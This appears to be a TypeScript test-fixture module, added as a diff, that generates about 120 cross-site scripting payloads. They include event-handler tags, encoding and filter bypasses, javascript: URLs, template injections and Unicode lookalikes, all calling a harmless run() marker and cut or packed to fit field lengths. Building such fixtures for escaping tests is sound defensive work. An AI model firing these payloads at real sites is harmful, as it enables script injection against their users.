@@ -1,0 +1,105 @@
+/** What runs where a payload got through: short, so that whole payloads fit into small fields. */
+const RUN = 'run()'
+
+/** An element that a browser is glad to make of text, and the event that it fires by itself. */
+const elements: [element: string, handler: string][] = [
+  ['img src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['iframe', 'onload'],
+  ['style', 'onload'],
+  ['input autofocus', 'onfocus'],
+  ['a tabindex=0 autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['video src=x', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['object data=x', 'onerror'],
+  ['marquee', 'onstart'],
+]
+
+/** How it is brought in: as it is, out of an attribute, past a filter, or for somebody who decodes once too often. */
+const encodings: ((element: string, handler: string) => string)[] = [
+  (element, handler) => `<${element} ${handler}=${RUN}>`,
+  (element, handler) => `"><${element} ${handler}="${RUN}">`,
+  (element, handler) => `'><${element} ${handler}='${RUN}'>`,
+  (element, handler) =>
+    `<${element.toUpperCase().replaceAll(' ', '/')}/${handler.toUpperCase()}=&#114;un&#40;&#41;>`,
+  (element, handler) => `&lt;${element} ${handler}=${RUN}&gt;`,
+  (element, handler) => encodeURIComponent(`<${element} ${handler}=${RUN}>`),
+  (element, handler) => `\\u003c${element} ${handler}=${RUN}\\u003e`,
+]
+
+const scripts = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</ScRiPt>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  '<script src=//127.0.0.1:9/run.js></script>',
+  `<script src=data:,${RUN}></script>`,
+  `<script type=module>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+]
+
+const addresses = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java&Tab;script:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `<a href=javascript:${RUN}>x</a>`,
+  `[x](javascript:${RUN})`,
+  `//127.0.0.1:9/%0d%0aX:${RUN}`,
+]
+
+const templates = [
+  `{{${RUN}}}`,
+  `\${${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `{${RUN}}`,
+  `';${RUN};//`,
+]
+
+/** Letters that turn into those of a tag when somebody folds, upper-cases or drops them. */
+const lookalikes = [
+  `＜script＞${RUN}＜/script＞`,
+  `<ſcript>${RUN}</ſcript>`,
+  `<ımg src=x onerror=${RUN}>`,
+  `<script\u200b>${RUN}</script\u200b>`,
+  `‹script›${RUN}‹/script›`,
+  `<svg\u00a0onload=${RUN}>`,
+  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+]
+
+/** 120 texts that would run where somebody took them for anything but text. Each can be stored by a member. */
+export const payloads: readonly string[] = [
+  ...encodings.flatMap((encode) => elements.map(([element, handler]) => encode(element, handler))),
+  ...scripts,
+  ...addresses,
+  ...templates,
+  ...lookalikes,
+]
+
+/** For a small field: each cut to `max` characters. A tag that is left open is a payload too. */
+export function cutTo(max: number): string[] {
+  return payloads.map((payload) => [...payload].slice(0, max).join('').trim())
+}
+
+/** For a large field: all of them whole, as many side by side as `max` characters hold. */
+export function packedInto(max: number): string[] {
+  const packed: string[] = []
+  for (const payload of payloads) {
+    const last = packed.at(-1)
+    const joined = last === undefined ? payload : `${last} ${payload}`
+    if (last === undefined || [...joined].length > max) packed.push(payload)
+    else packed[packed.length - 1] = joined
+  }
+  return packed
+}
